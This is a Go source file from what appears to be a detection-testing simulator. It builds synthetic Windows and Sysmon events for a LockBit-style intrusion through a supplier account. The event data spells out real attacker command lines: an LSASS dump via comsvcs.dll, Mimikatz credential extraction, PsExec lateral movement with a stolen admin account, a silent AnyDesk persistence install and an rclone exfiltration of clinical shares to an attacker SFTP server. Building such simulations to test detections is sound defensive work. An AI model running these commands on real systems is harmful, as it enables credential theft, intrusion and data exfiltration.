package sim

import "time"

const (
	lockbitAccount = "adv.support"
	lockbitAdmin   = "adm.rjones" // the domain admin whose password Mimikatz gave up
)

// lockbit follows the August 2022 LockBit 3.0 attack on Advanced, the
// supplier of NHS 111 and clinical systems: a supplier support account
// without MFA logs in over remote access, installs AnyDesk for persistence,
// dumps credentials, moves to other servers with PsExec and copies data out.
// The supplier's account links the stages on the EPR and file servers; each
// server PsExec reaches shows only SYSTEM activity, but also the network
// logon and SMB connection from the EPR server that PsExec makes, which
// link it to the EPR server's incident.
func lockbit(b *builder) *Scenario {
	user := NetBIOS + `\` + lockbitAccount
	epr, fs := b.t.Host("EPR-SRV01"), b.t.Host("FILE-SRV02")
	targets := []Host{b.t.Host("PAS-SRV01"), b.t.Host("LIMS-SRV01")}
	cmd := `C:\Windows\System32\cmd.exe`
	sc := &Scenario{
		Title:     "LockBit-style intrusion through a supplier account (Advanced, August 2022)",
		Incidents: 1,
		Note: "the supplier's account links its own stages; each PsExec target runs only SYSTEM, " +
			"but its network logon and SMB connection come from the EPR server, which links it to that incident",
	}
	var lateral []Event
	for i, t := range targets {
		d := 30*time.Minute + time.Duration(i)*time.Minute
		lateral = append(lateral, b.run(epr, d, user, `C:\ProgramData\PsExec64.exe`, `PsExec64.exe -accepteula \\`+t.Name+` -u TRUST\`+lockbitAdmin+` -s cmd.exe /c "whoami & hostname"`, cmd))
		lateral = append(lateral, b.connection(epr, d+time.Second, `C:\ProgramData\PsExec64.exe`, user, true, t, 445))
		lateral = append(lateral, b.psexecArrives(t, epr, d+3*time.Second)...)
	}
	sc.Stages = append(sc.Stages,
		b.stage("Supplier login without MFA", 0,
			"the supplier's support account logs in over the VPN with no second factor, then RDP to the EPR server; the pack has no rule for a login without MFA yet",
			nil, b.t.vpnLogin(b.at(0), lockbitAccount, "91.215.85.12", false), b.logon(epr, time.Minute, lockbitAccount, 10, "10.250.0.41")),
		b.stage("Remote access tool installed", 5*time.Minute,
			"AnyDesk installed as an unattended service with a password, for a way back in",
			[]string{RuleRemoteAccessTool},
			b.run(epr, 5*time.Minute, user, `C:\Users\adv.support\Downloads\AnyDesk.exe`, `"AnyDesk.exe" --install "C:\Program Files (x86)\AnyDesk" --start-with-win --silent`, cmd),
			b.run(epr, 5*time.Minute+30*time.Second, user, `C:\Program Files (x86)\AnyDesk\AnyDesk.exe`, `"AnyDesk.exe" --set-password`, cmd)),
		b.stage("Credential dumping", 15*time.Minute,
			"LSASS dumped with comsvcs.dll, then Mimikatz reads the logon passwords",
			[]string{RuleLsassDump, RuleMimikatz},
			b.run(epr, 15*time.Minute, user, `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 644 C:\Windows\Temp\lsass.dmp full`, cmd),
			b.run(epr, 16*time.Minute, user, `C:\ProgramData\m.exe`, `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, cmd)),
		b.stage("Lateral movement with PsExec", 30*time.Minute,
			"PsExec from the EPR server with a stolen admin account: the sender's command line and connection and, on each target, the network logon from the EPR server, the PSEXESVC service, its pipe and its process",
			[]string{RulePsExecExecution, RulePsExecService, RulePsExecPipe}, lateral...),
		b.stage("Exfiltration", 45*time.Minute,
			"clinical shares copied to an attacker's SFTP server with rclone",
			[]string{RuleExfiltrationCloud}, b.rclone(fs, 45*time.Minute, user, `rclone.exe copy "D:\Shares\Clinical" sftp:/upload/trust --transfers 8 -q`)...),
	)
	return sc
}

// psexecArrives is what the target of PsExec from src records: the SMB
// connection and the network logon (4624 type 3) of the account given with
// -u, from src; then the service installed (7045), its process started by
// services.exe and its named pipe.
func (b *builder) psexecArrives(h, src Host, d time.Duration) []Event {
	const system = `NT AUTHORITY\SYSTEM`
	in := b.connection(h, d-2*time.Second, "System", system, false, src, 445)
	logon := b.logon(h, d-time.Second, lockbitAdmin, 3, addr(src))
	logon.Fields["WorkstationName"] = src.Name
	svc := b.t.win(b.at(d), h, chSystem, 7045, map[string]any{
		"ServiceName": "PSEXESVC", "ImagePath": `%SystemRoot%\PSEXESVC.exe`, "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
	})
	p := b.run(h, d+time.Second, system, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`, `C:\Windows\System32\services.exe`)
	pipe := b.t.win(b.at(d+2*time.Second), h, chSysmon, 17, map[string]any{
		"RuleName": "-", "EventType": "CreatePipe", "ProcessGuid": p.Fields["ProcessGuid"], "ProcessId": p.Fields["ProcessId"],
		"PipeName": `\PSEXESVC`, "Image": `C:\Windows\PSEXESVC.exe`, "User": system,
	})
	return []Event{in, logon, svc, p, pipe}
}
